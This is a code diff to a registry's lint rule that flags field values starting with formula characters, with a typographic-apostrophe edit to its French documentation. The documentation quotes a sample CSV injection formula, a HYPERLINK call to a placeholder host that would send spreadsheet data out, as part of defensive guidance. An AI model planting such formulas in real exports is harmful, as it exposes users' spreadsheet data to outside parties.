@@ -20,11 +20,11 @@ export default defineRule({
       w((d) => `${d.field} starts with ${first(String(d.value), 1)}: opened in a spreadsheet, the registry's CSV file would read it as a formula (${qe(show(d.value))}).`, () => 'Rephrase the start of the value (for example "More than…" rather than "+…"), or remove this character.'),
     ),
   },
-  docs: `Les fichiers CSV du registre (\`api/v2.7/startups.csv\`) s'ouvrent dans des tableurs, qui lisent une
+  docs: `Les fichiers CSV du registre (\`api/v2.7/startups.csv\`) s’ouvrent dans des tableurs, qui lisent une
 cellule commençant par \`=\`, \`+\`, \`-\`, \`@\`, une tabulation ou un retour chariot comme une formule :
 \`=HYPERLINK("https://exemple.invalid/?"&A2;"Cliquez")\` deviendrait un lien qui envoie les données de la
-feuille ailleurs. Le registre neutralise ces cellules comme le recommande l'OWASP (une apostrophe devant,
-et des guillemets autour ; voir docs/api.md), mais la valeur publiée n'est alors plus exactement celle de
+feuille ailleurs. Le registre neutralise ces cellules comme le recommande l’OWASP (une apostrophe devant,
+et des guillemets autour ; voir docs/api.md), mais la valeur publiée n’est alors plus exactement celle de
 la fiche. Aucune fiche réelle ne commence ainsi.
 
 **Corriger** : reformulez le début de la valeur, ou supprimez ce caractère.`,
